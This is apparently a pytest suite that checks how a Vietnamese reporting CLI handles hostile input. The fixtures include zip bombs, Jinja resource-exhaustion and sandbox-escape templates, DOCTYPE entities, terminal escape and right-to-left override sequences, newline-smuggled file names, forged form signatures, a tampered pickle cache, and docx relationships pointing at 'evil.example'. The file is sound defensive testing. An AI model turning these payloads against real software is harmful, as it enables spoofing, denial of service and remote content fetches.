"""Hostile and broken input, round two: each class with cases of its own, bounded in time:
the exit status, no traceback, the message, and nothing changed inside the root (beyond
what the command is for) or outside it.

Most runs are in-process (`kh`, tests/inproc.py: the installed command's environment, and
every run checked for an unexpected error, exit 3, and held to a time limit). The installed
command still runs where the process is what is tested: a FIFO that could block for good
(`run`) and two clerks at once (`_spawn`). A template's time budget runs in-process: `render`
fills the template in a child process of its own and kills it at the budget, so the test's
process never runs the template itself (and `kh` stops the run at its own limit)."""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from conftest import ROOT, fill_basis, received_report, write
from inproc import Completed
from inproc import kh121 as kh
from test_bad_inputs import run, spawn_env

DAY = ("--as-of", "2026-11-29")
HEAD = (
    "schema_version: 1\nagency: SYT\nperiod: 2026-H2\nnumber: 1/BC\ndate: 2026-11-10\n"
    "received: 2026-11-12\ntasks:\n  - task: III.7\n    state: in_progress\n"
)
R = "reports/2026-H2/SYT.yaml"


def _tree(root: Path) -> dict[str, str]:
    out = {}
    for p in sorted(root.rglob("*")):
        if p.is_file() and not p.is_symlink() and p.name != ".kh121.lock":
            out[p.relative_to(root).as_posix()] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


@pytest.fixture
def guarded_root(ws_root: Path, tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
    """The workspace and a folder beside it; each test says what may change."""
    outside = tmp_path_factory.mktemp("outside")
    write(outside / "keep.txt", "untouched\n")
    fill_basis(ws_root)  # render refuses the source's blank legal basis without --draft
    before = _tree(outside)
    yield ws_root, outside
    assert _tree(outside) == before  # nothing written outside the root, ever


def _validate_refuses(root: Path, body: bytes, code: str, place: str) -> None:
    path = root / R
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(body)
    before = _tree(root)
    r = kh("validate", "--root", root, *DAY, timeout=30)
    assert r.returncode == 1, r.stdout + r.stderr
    assert "Traceback" not in r.stderr and "lỗi không mong đợi" not in r.stderr
    assert f"{R}:{place}: lỗi[{code}]" in r.stdout, r.stdout
    for other in ("status", "merge"):
        s = kh(other, *(["2026-H2"] if other == "merge" else []), "--root", root, *DAY)
        assert s.returncode == 1 and "Traceback" not in s.stderr, (other, s.stderr)
    assert _tree(root) == before  # refused: nothing written


# ------------------------------------------------------------------ silent loss


@pytest.mark.parametrize(
    ("body", "code", "place"),
    [
        (HEAD.encode() + "    done: a\ufffeb\n".encode(), "E012", "10:12"),  # raw non-character
        (HEAD.encode() + b'    done: "a\\uFFFFb"\n', "E012", "10:11"),  # escaped
        (HEAD.encode() + "difficulties: !!null thiếu kinh phí\n".encode(), "E008", "10:15"),
        (HEAD.encode() + b"proposals: !!binary aGVsbG8=\n", "E008", "10:12"),
        (HEAD.encode() + b"difficulties: !!int abc\n", "E008", "10:15"),
        (HEAD.encode() + b"difficulties: !!float 1,5\n", "E008", "10:15"),
        (HEAD.encode() + b"difficulties: " + b"9" * 5000 + b"\n", "E014", "10:15"),
    ],
    ids=["fffe", "ffff-escaped", "null-tag", "binary-tag", "int-tag", "float-tag", "5000-digits"],
)
def test_no_text_is_lost_in_silence(guarded_root, body: bytes, code: str, place: str) -> None:  # type: ignore[no-untyped-def]
    root, _outside = guarded_root
    _validate_refuses(root, body, code, place)


def test_what_validate_accepts_survives_merge_and_render(guarded_root, cli) -> None:  # type: ignore[no-untyped-def]
    root, _outside = guarded_root
    strange = (
        "Kết quả: “ngoặc kép” ‘đơn’ & <w:p> </w:t> 50% — 1/2 ½ ✓ 𝔸 🧬 đã hoàn thành; "
        + "dài " * 20000
    ).strip()
    write(root / R, HEAD + f"    done: {json.dumps(strange, ensure_ascii=False)}\n")
    from conftest import filled_clerk

    filled_clerk(root, "2026-H2")
    v = kh("validate", "--root", root, *DAY)
    assert v.returncode == 0, v.stdout
    assert kh("merge", "2026-H2", "--root", root, *DAY).returncode == 0
    merged = (root / "reports/2026-H2/_tong_hop.yaml").read_text(encoding="utf-8")
    import yaml

    data = yaml.safe_load(merged)
    done = next(t for t in data["tasks"] if t["task"] == "III.7")["lead"]["done"]
    assert done == strange  # byte for byte through the consolidation
    r = kh("render", "2026-H2", "--root", root, *DAY, timeout=120)
    assert r.returncode == 0, r.stderr
    from docx import Document

    doc = Document(str(next((root / "reports").glob("*.docx"))))
    body = "\n".join(p.text for p in doc.paragraphs)
    assert strange[:200] in body and strange[-200:] in body


# ------------------------------------------------------------------ spoofing


@pytest.mark.parametrize(
    ("body", "place"),
    [
        (HEAD.encode() + "    done: a\u202eb\n".encode(), "10:12"),  # raw right-to-left override
        (HEAD.encode() + b'    done: "a\\u2066b"\n', "10:11"),  # escaped isolate
        (HEAD.encode() + b'    done: "\\e[2J\\e]2;x\\a"\n', "10:11"),  # terminal escapes
        (HEAD.encode() + b'difficulties: "\\x9b31m"\n', "10:15"),  # 8-bit CSI
    ],
    ids=["rlo-raw", "isolate-escaped", "esc-escaped", "csi"],
)
def test_no_spoofed_or_hidden_text(guarded_root, body: bytes, place: str) -> None:  # type: ignore[no-untyped-def]
    root, _outside = guarded_root
    _validate_refuses(root, body, "E012", place)


@pytest.mark.parametrize("name", ["2026-H2\nkhông có lỗi nào", "2026-H2\x1b[2J"])
def test_a_file_name_cannot_pass_for_a_line(guarded_root, name: str) -> None:  # type: ignore[no-untyped-def]
    root, _outside = guarded_root
    write(root / "reports" / name / "SYT.yaml", "schema_version: 1\nagency: SYT\nperiod: 2026-H2\n")
    r = kh("validate", "--root", root, *DAY)
    lines = r.stdout.splitlines()
    assert all("\x1b" not in line for line in lines)
    assert not any(line.startswith("không có lỗi nào") for line in lines), lines
    assert any("\\n" in line or "\\u001b" in line for line in lines), lines


def test_cr_only_lines_are_counted_as_yaml_counts_them(guarded_root) -> None:  # type: ignore[no-untyped-def]
    root, _outside = guarded_root
    body = HEAD.replace("\n", "\r").encode() + b"difficulties: a\x01b\r"
    _validate_refuses(root, body, "E012", "10:16")


# ------------------------------------------------------------------ templates


def _template(kind: str, out: Path) -> Path:
    from docx import Document

    doc = Document()
    texts = {
        "range": "{% for x in range(10**9) %}x{% endfor %}",
        "nested": "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}"
        "{% endfor %}",
        "repeat": "{{ 'x' * 10**9 }}",
        "power": "{{ 10 ** 100000000 }}",
    }
    doc.add_paragraph(texts.get(kind, "x"))
    buffer = io.BytesIO()
    doc.save(buffer)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as src:
            for info in src.infolist():
                data = src.read(info)
                if kind == "paragraphs" and info.filename == "word/document.xml":
                    data = data.replace(b"<w:body>", b"<w:body>" + b"<w:p/>" * 600_000)
                if kind == "external" and info.filename == "word/_rels/document.xml.rels":
                    data = data.replace(
                        b"</Relationships>",
                        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/'
                        b'officeDocument/2006/relationships/attachedTemplate"'
                        b' Target="http://evil.example/t.dotm" TargetMode="External"/>'
                        b"</Relationships>",
                    )
                z.writestr(info, data)
        if kind == "bomb":  # 150 MB inflated; deflated fast (level 1), it is the same bomb
            with z.open("word/media/big.bin", "w", force_zip64=True) as big:
                for _ in range(150):
                    big.write(bytes(1_000_000))
    return out


@pytest.mark.parametrize(
    ("kind", "said"),
    [
        ("range", "Range too big"),
        ("nested", "chạy quá 1 giây"),
        ("repeat", "'*' tạo giá trị dài quá"),
        ("power", "'**' với số mũ quá lớn"),
        ("bomb", "có thể là tệp nén bom"),
        ("paragraphs", "phần tử XML"),
        ("external", "http://evil.example/t.dotm"),
    ],
)
def test_templates_are_held_to_budgets(guarded_root, cli, kind: str, said: str) -> None:  # type: ignore[no-untyped-def]
    root, _outside = guarded_root
    shutil.copytree(ROOT / "examples/demo/reports/2026-H2", root / "reports/2026-H2")
    assert kh("merge", "2026-H2", "--root", root, *DAY).returncode == 0
    tpl = _template(kind, root / "templates" / f"{kind}.docx")
    before = _tree(root)
    out = root / "reports/out.docx"
    r = kh(
        "render",
        "2026-H2",
        "--root",
        root,
        *DAY,
        "--template",
        tpl,
        "-o",
        out,
        env={"KH121_RENDER_SECONDS": "1"},
    )
    assert r.returncode == 1, r.stdout + r.stderr
    assert said in r.stderr, r.stderr
    assert not out.exists() and _tree(root) == before


@pytest.mark.parametrize(
    ("body", "said"),
    [
        (
            "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}",
            "chạy quá 1 giây",
        ),
        ("{{ 'x' * 10**9 }}", "'*' tạo giá trị dài quá"),
        ("{{ ''.__class__.__mro__ }}", "truy cập điều không được phép"),
        ("{{ no_such_thing }}", "dùng biến không có"),
        ("{% for %}", "sai cú pháp thẻ Jinja"),
    ],
)
def test_the_page_template_is_held_as_the_word_templates(
    guarded_root, body: str, said: str
) -> None:  # type: ignore[no-untyped-def]
    """The page's HTML template is filled in the same sandbox, under the same time limit,
    and each failure is said the same way, naming the template; nothing is written."""
    root, _outside = guarded_root
    write(root / "templates/trang_theo_doi.html", f"<html>{body}</html>")
    before = _tree(root)
    r = kh("page", "--root", root, *DAY, env={"KH121_RENDER_SECONDS": "1"})
    assert r.returncode == 1, r.stdout + r.stderr
    assert said in r.stderr and "trang_theo_doi.html" in r.stderr, r.stderr
    assert _tree(root) == before


# ------------------------------------------------------------------ writes stay inside


def test_report_new_refuses_a_period_folder_outside(guarded_root) -> None:  # type: ignore[no-untyped-def]
    root, outside = guarded_root
    (root / "reports/2026-H2").symlink_to(outside, target_is_directory=True)
    r = kh("report", "new", "SYT", "--period", "2026-H2", "--root", root)
    assert r.returncode == 1 and "ra ngoài thư mục gốc" in r.stderr, r.stderr


def test_render_refuses_a_default_output_outside(guarded_root) -> None:  # type: ignore[no-untyped-def]
    root, outside = guarded_root
    shutil.copytree(ROOT / "examples/demo/reports", outside / "reports")
    (outside / "keep.txt").write_text("untouched\n", encoding="utf-8")
    shutil.rmtree(root / "reports")
    (root / "reports").symlink_to(outside / "reports", target_is_directory=True)
    r = kh("merge", "2026-H2", "--root", root, *DAY)
    assert r.returncode == 1 and "ra ngoài thư mục gốc" in r.stderr, r.stderr
    shutil.rmtree(outside / "reports")  # the fixture checks only keep.txt stayed


# ------------------------------------------------------------------ the machine's failures


def test_the_machines_failures_in_plain_words(guarded_root) -> None:  # type: ignore[no-untyped-def]
    root, _outside = guarded_root
    shutil.copytree(ROOT / "examples/demo/reports/2026-H2", root / "reports/2026-H2")
    (root / "reports/2026-H2/_tong_hop.yaml").unlink()
    (root / "reports/2026-H2/_tong_hop.yaml").mkdir()
    r = kh("merge", "2026-H2", "--root", root, *DAY)
    assert r.returncode == 1 and "đây là thư mục, cần một tệp" in r.stderr, r.stderr
    (root / "reports/2026-H2/_tong_hop.yaml").rmdir()
    assert kh("merge", "2026-H2", "--root", root, *DAY).returncode == 0
    r = kh("render", "2026-H2", "--root", root, *DAY, "-o", root / "templates")
    assert r.returncode == 1 and "đây là thư mục" in r.stderr, r.stderr
    r = kh("textconv", root / "nope.yaml")
    assert r.returncode == 1 and "không có tệp hay thư mục này" in r.stderr, r.stderr
    shutil.rmtree(root / "reports")
    write(root / "reports", "a file where the folder belongs\n")
    r = kh("status", "--root", root, *DAY)
    assert r.returncode == 1 and "cần thư mục" in r.stderr, r.stderr
    (root / "reports").unlink()
    shutil.rmtree(root / "data/tasks.yaml", ignore_errors=True)
    (root / "data/tasks.yaml").unlink()
    (root / "data/tasks.yaml").mkdir()
    r = kh("status", "--root", root, *DAY)
    assert r.returncode == 1 and "Traceback" not in r.stderr
    assert "lỗi không mong đợi" not in r.stdout + r.stderr


# ------------------------------------------------------------------ regular files, sane values


def test_a_fifo_template_or_data_file_never_hangs(guarded_root) -> None:  # type: ignore[no-untyped-def]
    root, _outside = guarded_root
    os.mkfifo(root / "templates/fifo.docx")
    write(root / R, received_report(root, "SYT", "2026-H2", "2026-11-12", ""))
    assert run("merge", "2026-H2", "--root", root, *DAY).returncode == 0
    r = run("render", "2026-H2", "--root", root, *DAY, "--template", root / "templates/fifo.docx")
    assert r.returncode == 1 and "Traceback" not in r.stderr, r.stderr
    (root / "data/calendar.yaml").unlink()
    os.mkfifo(root / "data/calendar.yaml")
    r = run("status", "--root", root, *DAY, timeout=30)
    assert r.returncode == 1 and "E013" in r.stdout + r.stderr


@pytest.mark.parametrize("day", ["9999-12-31", "0001-01-01"])
def test_dates_are_bounded_before_anything_computes(guarded_root, day: str) -> None:  # type: ignore[no-untyped-def]
    root, _outside = guarded_root
    cal = root / "data/calendar.yaml"
    write(cal, cal.read_text(encoding="utf-8") + f"  - date: {day}\n    name: x\n")
    r = kh("validate", "--root", root, *DAY)
    assert r.returncode == 1 and "năm phải từ 1900 đến 2200" in r.stdout, r.stdout
    s = kh("status", "--root", root, *DAY)
    assert s.returncode == 1 and "Traceback" not in s.stderr


# ------------------------------------------------------------------ round three (issue 27)


def _spawn(*args: str | Path) -> subprocess.Popen[str]:
    from test_bad_inputs import KH121

    env = spawn_env()
    return subprocess.Popen(
        [KH121, *map(str, args)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
    )


@pytest.fixture
def demo_signed(ws_root: Path) -> Path:
    """The demo's reports, with the letter's signer named and the approving decision's number
    filled in: letters can be issued."""
    shutil.copytree(ROOT / "examples/demo/reports", ws_root / "reports", dirs_exist_ok=True)
    fill_basis(ws_root)
    signer = ws_root / "data/report.yaml"
    text = signer.read_text(encoding="utf-8").replace("(họ và tên người ký)", "Lê Văn Ký")
    write(signer, text)
    return ws_root


def _recorded(root: Path) -> list[str]:
    import yaml

    path = root / "reports/2026-H2/_don_doc.yaml"
    if not path.exists():
        return []
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    return [str(r["number"]) for r in data.get("reminders") or []]


def _remind(root: Path, number: str, *more: str) -> tuple[str, ...]:
    return (
        "remind", "--root", str(root), *DAY, "--number", number, "--date", "2026-11-30",
        "--record", *more,
    )  # fmt: skip


def test_two_clerks_recording_at_once_lose_nothing(demo_signed: Path) -> None:
    root = demo_signed
    runs = [_spawn(*_remind(root, "202", "--agency", "STC")), _spawn(*_remind(root, "203"))]
    outs = [p.communicate(timeout=120) for p in runs]
    assert [p.returncode for p in runs] == [0, 0], outs
    assert sorted(_recorded(root)) == ["202/SKHCN-QLCN", "203/SKHCN-QLCN"]
    letters = sorted(p.name for p in (root / "reports/2026-H2").glob("CV_don_doc_*.docx"))
    assert len(letters) == 2, letters  # neither letter replaced the other's file
    assert kh("validate", "--root", root, *DAY).returncode == 0


def test_one_number_is_never_issued_twice(demo_signed: Path) -> None:
    root = demo_signed
    runs = [_spawn(*_remind(root, "204", "--agency", a)) for a in ("STC", "SNV")]
    outs = [p.communicate(timeout=120) for p in runs]
    assert sorted(p.returncode for p in runs) == [0, 1], outs
    assert any("đã có trong sổ đôn đốc" in " ".join(err.split()) for _out, err in outs), outs
    assert _recorded(root) == ["204/SKHCN-QLCN"]
    assert len(list((root / "reports/2026-H2").glob("CV_don_doc_*.docx"))) == 1


def test_a_letter_is_never_issued_without_its_record(demo_signed: Path, tmp_path: Path) -> None:
    root = demo_signed
    out = tmp_path / "letters"
    (out / "STC.docx").mkdir(parents=True)  # the last letter cannot be put in place
    (out / "STC.docx" / "x").write_text("x")
    r = kh(*_remind(root, "131", "--each", "--output", str(out)))
    assert r.returncode == 1 and "Traceback" not in r.stderr, r.stderr
    assert "STC.docx" in r.stderr and ".tmp" not in r.stderr  # the target, not the temp file
    assert _recorded(root) == []  # rolled back with the letters already put in place
    assert sorted(p.name for p in out.iterdir()) == ["STC.docx"]
    assert not [p for p in (root / "reports").rglob("*") if ".tmp" in p.name]


def _filled(root: Path, key: Path, out: Path, agency: str = "SYT", state: str = "") -> Path:
    from test_forms import _fill

    made = kh("report", "form", agency, "--period", "2026-H2", "--root", root,
              env={"KH121_FORM_KEY": str(key)})  # fmt: skip
    assert made.returncode == 0, made.stderr
    form = root / f"reports/2026-H2/mau/MAU_2026-H2_{agency}.docx"
    return _fill(form, out, **({"state": state} if state else {}))


def _import(root: Path, key: Path, *files: Path, env: dict[str, str] | None = None) -> Completed:
    return kh("report", "import", *files, "--root", root, *DAY,
              env={"KH121_FORM_KEY": str(key), **(env or {})})  # fmt: skip


@pytest.mark.parametrize("brk", ["\n", "\u2028", "\x85", "\r"])
def test_a_form_file_name_writes_no_yaml(ws_root: Path, tmp_path: Path, brk: str) -> None:
    key = tmp_path.parent / f"{tmp_path.name}.key"  # outside the root
    name = f"STC{brk}received: 2026-11-21{brk}#.docx"
    filled = _filled(ws_root, key, tmp_path / name)
    r = _import(ws_root, key, filled)
    assert r.returncode == 0, r.stderr
    text = (ws_root / "reports/2026-H2/SYT.yaml").read_text(encoding="utf-8")
    assert "received" not in text.split("\n", 1)[1]  # still a draft: nothing was added
    assert text.count("\n# ") == 0 and "\\u" in text.splitlines()[0]


def test_form_text_never_reaches_the_terminal_raw(ws_root: Path, tmp_path: Path) -> None:
    key = tmp_path.parent / f"{tmp_path.name}.key"  # outside the root
    # XML holds no ESC or BEL; C1 controls, line breaks and direction marks it does hold
    nasty = "\u009b2J\u009d52;c;ZXZpbA==\u009c\u202egnp.exe\u0085x\u2028y"
    filled = _filled(ws_root, key, tmp_path / "f.docx", state=nasty)
    r = _import(ws_root, key, filled)
    assert r.returncode == 1, r.stderr
    err = " ".join(r.stderr.split())
    assert "Tình trạng" in err and "\\u009b" in err and "\\u202e" in err
    assert not any(c in err for c in "\u009b\u009d\u009c\u202e\u0085\u2028")
    bad = kh("report", "form", "--period", "2026-H2\x1b]52;c;eA==\x07", "x", "--root", ws_root)
    assert bad.returncode == 1 and "\x1b" not in bad.stderr and "\\u001b" in bad.stderr


def _with_keywords(src: Path, out: Path, keywords: str) -> Path:
    with zipfile.ZipFile(src) as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    core = parts["docProps/core.xml"].decode()
    start, end = core.index("<cp:keywords>") + 13, core.index("</cp:keywords>")
    parts["docProps/core.xml"] = (core[:start] + keywords + core[end:]).encode()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in parts.items():
            z.writestr(name, body)
    return out


def test_a_hand_made_identity_is_refused(ws_root: Path, tmp_path: Path) -> None:
    import base64
    import hmac

    key = tmp_path.parent / f"{tmp_path.name}.key"  # outside the root
    filled = _filled(ws_root, key, tmp_path / "mine.docx")
    with zipfile.ZipFile(filled) as z:
        core = z.read("docProps/core.xml").decode()
    words = core.split("<cp:keywords>")[1].split("</cp:keywords>")[0].split()
    head = base64.b64decode(words[2]).decode().replace('"SYT"', '"STC"')
    from docx import Document

    tasks = [r.cells[0].text for r in Document(str(filled)).tables[1].rows[1:]]
    guess = hmac.new(b"", (head + "|" + ",".join(tasks)).encode(), hashlib.sha256)
    forged = f"kh121-form 2 {base64.b64encode(head.encode()).decode()} {guess.hexdigest()[:32]}"
    r = _import(ws_root, key, _with_keywords(filled, tmp_path / "forged.docx", forged))
    assert r.returncode == 1 and "không khớp mẫu gốc" in " ".join(r.stderr.split()), r.stderr
    old = hashlib.sha256((head + "|" + ",".join(tasks)).encode()).hexdigest()[:16]
    unkeyed = f"kh121-form 1 {base64.b64encode(head.encode()).decode()} {old}"
    r = _import(ws_root, key, _with_keywords(filled, tmp_path / "old.docx", unkeyed))
    assert r.returncode == 1 and "tạo mẫu mới" in " ".join(r.stderr.split()), r.stderr
    assert not (ws_root / "reports/2026-H2/STC.yaml").exists()
    assert oct(key.stat().st_mode & 0o777) == "0o600"


def _rezip(src: Path, out: Path, change: str) -> Path:
    import base64

    with zipfile.ZipFile(src) as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    body = parts["word/document.xml"]
    if change == "malformed":
        parts["word/document.xml"] = body[: len(body) // 2]
    elif change == "entities":
        parts["word/document.xml"] = (
            b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaa">]>' + body.split(b"?>", 1)[1]
        )
    elif change == "deep":
        parts["word/document.xml"] = body.replace(
            b"<w:body>", b"<w:body>" + b"<w:p>" * 300 + b"</w:p>" * 300
        )
    elif change == "bomb":
        parts["word/styles.xml"] = parts["word/styles.xml"] + b" " * 3_000_000
    elif change == "identity-list":
        core = parts["docProps/core.xml"].decode()
        at = core.index("kh121-form 2 ") + len("kh121-form 2 ")
        listed = base64.b64encode(b'["a", [[[[1]]]]]').decode()
        end = core.index(" ", at)
        parts["docProps/core.xml"] = (core[:at] + listed + core[end:]).encode()
    elif change == "docm":
        parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0macro"
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    if change == "encrypted":
        raw = bytearray(out.read_bytes())
        at = raw.find(b"PK\x03\x04")
        raw[at + 6] |= 1  # the local header's flag; the central one below
        c = raw.find(b"PK\x01\x02")
        raw[c + 8] |= 1
        out.write_bytes(bytes(raw))
    if change == "corrupt":
        raw = bytearray(out.read_bytes())
        c = raw.find(b"word/document.xml") + 40
        raw[c : c + 40] = b"\xff" * 40
        out.write_bytes(bytes(raw))
    return out


@pytest.mark.parametrize(
    ("change", "env", "said"),
    [
        ("malformed", {}, "không đọc được tệp Word"),
        ("entities", {}, "DOCTYPE"),
        ("deep", {}, "không đọc được tệp Word"),
        ("bomb", {}, "giải nén quá lớn"),
        ("encrypted", {}, "mã hóa"),
        ("corrupt", {}, "bị hỏng"),
        ("identity-list", {}, "dấu nhận dạng của mẫu đã bị sửa"),
        ("docm", {}, ".docm"),
        ("none", {"KH121_FORM_INFLATED": "20000"}, "giải nén quá lớn"),
        ("none", {"KH121_FORM_ROWS": "3"}, "dòng"),
        ("none", {"KH121_FORM_CELL": "5"}, "ký tự"),
        ("none", {"KH121_FORM_ELEMENTS": "50"}, "phần tử XML"),
    ],
)
def test_a_hostile_form_ends_cleanly(
    ws_root: Path, tmp_path: Path, change: str, env: dict[str, str], said: str
) -> None:
    key = tmp_path.parent / f"{tmp_path.name}.key"  # outside the root
    filled = _filled(ws_root, key, tmp_path / "ok.docx")
    bad = _rezip(filled, tmp_path / "bad.docx", change)
    before = _tree(ws_root)
    r = _import(ws_root, key, bad, env=env)
    err = " ".join(r.stderr.split())
    assert r.returncode == 1 and "bad.docx" in err and said in err, err
    assert "Traceback" not in err and len(err) < 2000
    assert _tree(ws_root) == before


def test_two_forms_of_one_agency_import_nothing(ws_root: Path, tmp_path: Path) -> None:
    key = tmp_path.parent / f"{tmp_path.name}.key"  # outside the root
    a = _filled(ws_root, key, tmp_path / "A.docx")
    b = shutil.copy(a, tmp_path / "B.docx")
    r = _import(ws_root, key, a, b)
    assert r.returncode == 1 and "cùng là báo cáo" in " ".join(r.stderr.split()), r.stderr
    assert not (ws_root / "reports/2026-H2/SYT.yaml").exists()


def test_a_planted_cache_file_is_never_trusted(ws_root: Path, tmp_path: Path) -> None:
    import dataclasses
    import pickle

    cache = tmp_path.parent / f"{tmp_path.name}.cache"
    env = {"KH121_CACHE_DIR": str(cache)}
    first = kh("status", "--json", "--root", ws_root, *DAY, env=env)
    assert first.returncode == 0, first.stderr
    (stored,) = cache.glob("*.pickle")
    assert stored.stat().st_mode & 0o777 == 0o600 and cache.stat().st_mode & 0o777 == 0o700
    blob = stored.read_bytes()
    head = blob[: blob.index(b"\n") + 1 + 32]
    view = pickle.loads(blob[len(head) + 32 :])
    lie = pickle.dumps(dataclasses.replace(view, tasks=()), protocol=5)
    stored.write_bytes(head + blob[len(head) : len(head) + 32] + lie)  # a valid header
    assert kh("status", "--json", "--root", ws_root, *DAY, env=env).stdout == first.stdout
    stored.write_bytes(head + hashlib.sha256(head + lie).digest() + lie)  # and a valid sum
    stored.chmod(0o644)  # but a file others could write
    assert kh("status", "--json", "--root", ws_root, *DAY, env=env).stdout == first.stdout


def test_diff_never_says_no_change_about_a_file_it_did_not_read(ws_root: Path) -> None:
    from conftest import commit_all

    report = write(ws_root / R, received_report(ws_root, "SYT", "2026-H2", "2026-11-12", ""))
    commit_all(ws_root)
    report.write_text(report.read_text(encoding="utf-8") + "bogus: [\n", encoding="utf-8")
    r = kh("diff", "--root", ws_root)
    said = " ".join(r.stdout.split())
    assert r.returncode == 1 and "SYT.yaml không đọc được ở bản mới" in said, r.stdout + r.stderr
    assert "đã xóa" not in said and "không có thay đổi về nội dung" not in said


RECORD = """# Sổ đôn đốc kỳ 2026-H2
schema_version: 1
period: {period}
reminders:
  - number: 120/SKHCN-QLCN  # gửi bằng bưu điện
    date: 2026-11-20
    reply_by: 2026-11-27
    agencies:
      - STC
"""


def test_a_record_keeps_its_entries_and_comments(demo_signed: Path) -> None:
    root = demo_signed
    record = write(root / "reports/2026-H2/_don_doc.yaml", RECORD.format(period="2026-H1"))
    r = kh(*_remind(root, "131", "--agency", "STC"))
    assert r.returncode == 1 and "2026-H1" in r.stderr, r.stdout + r.stderr
    assert record.read_text(encoding="utf-8") == RECORD.format(period="2026-H1")
    assert not list((root / "reports/2026-H2").glob("CV_*"))
    write(record, RECORD.format(period="2026-H2"))
    r = kh(*_remind(root, "131", "--agency", "STC"))
    assert r.returncode == 0, r.stderr
    text = record.read_text(encoding="utf-8")
    assert "# Sổ đôn đốc kỳ 2026-H2" in text and "# gửi bằng bưu điện" in text
    assert _recorded(root) == ["120/SKHCN-QLCN", "131/SKHCN-QLCN"]


def test_a_symlink_loop_is_no_form(ws_root: Path, tmp_path: Path) -> None:
    key = tmp_path.parent / f"{tmp_path.name}.key"
    (tmp_path / "a.docx").symlink_to(tmp_path / "b.docx")
    (tmp_path / "b.docx").symlink_to(tmp_path / "a.docx")
    r = _import(ws_root, key, tmp_path / "a.docx")
    assert r.returncode == 1 and "a.docx" in r.stderr, r.stderr


def test_the_kept_form_fetches_nothing_from_outside(ws_root: Path, tmp_path: Path) -> None:
    key = tmp_path.parent / f"{tmp_path.name}.key"
    filled = _filled(ws_root, key, tmp_path / "ok.docx")
    with zipfile.ZipFile(filled) as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    rels = "word/_rels/document.xml.rels"
    remote = (
        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/image" Target="http://evil.example/p.png" TargetMode="External"/>'
    )
    parts[rels] = parts[rels].replace(b"</Relationships>", remote + b"</Relationships>")
    with zipfile.ZipFile(tmp_path / "remote.docx", "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    r = _import(ws_root, key, tmp_path / "remote.docx")
    assert r.returncode == 0, r.stderr
    with zipfile.ZipFile(ws_root / "reports/2026-H2/SYT.docx") as z:
        kept = z.read(rels)
    assert b"evil.example" not in kept and b"TargetMode" not in kept


def test_form_all_writes_every_form_or_none(ws_root: Path, tmp_path: Path) -> None:
    key = tmp_path.parent / f"{tmp_path.name}.key"
    out = tmp_path / "forms"
    (out / "MAU_2026-H2_SYT.docx").mkdir(parents=True)  # one form cannot be put in place
    (out / "MAU_2026-H2_SYT.docx" / "x").write_text("x")
    r = kh("report", "form", "--all", "--period", "2026-H2", "--root", ws_root, "-o", out,
           env={"KH121_FORM_KEY": str(key)})  # fmt: skip
    assert r.returncode == 1 and "MAU_2026-H2_SYT.docx" in r.stderr, r.stderr
    assert sorted(p.name for p in out.iterdir()) == ["MAU_2026-H2_SYT.docx"]


def test_a_report_of_countless_lines_is_refused_at_once(ws_root: Path) -> None:
    lines = "".join(f"  - task: III.{i % 9 + 1}\n    state: in_progress\n" for i in range(1200))
    write(
        ws_root / "reports/2026-H2/SYT.yaml",
        "schema_version: 1\nagency: SYT\nperiod: 2026-H2\ntasks:\n" + lines,
    )
    r = kh("validate", "--root", ws_root, *DAY, timeout=60)
    assert r.returncode == 1
    assert r.stdout.count("lỗi[E065]") == 1 and "E039" not in r.stdout  # one line, not 1,200
    assert "1200 dòng nhiệm vụ, quá giới hạn 1000" in " ".join(r.stdout.split())


def test_a_problem_on_a_cells_second_paragraph_names_its_column(
    ws_root: Path, tmp_path: Path
) -> None:
    """A result written in two paragraphs, the second with a hidden direction mark: the
    refusal names the column 'Kết quả thực hiện trong kỳ', not the paragraph's text."""
    from docx import Document

    key = tmp_path.parent / f"{tmp_path.name}.key"  # outside the root
    filled = _filled(ws_root, key, tmp_path / "f.docx")
    doc = Document(str(filled))
    row = next(r for r in doc.tables[1].rows[1:] if r.cells[0].text == "III.7")
    row.cells[3].add_paragraph("Hỗ trợ 2 doanh nghiệp. ẩn \u202e x")
    doc.save(str(filled))
    r = _import(ws_root, key, filled)
    assert r.returncode == 1, r.stderr
    err = " ".join(r.stderr.split())
    assert "(III.7), cột Kết quả thực hiện trong kỳ:" in err, err
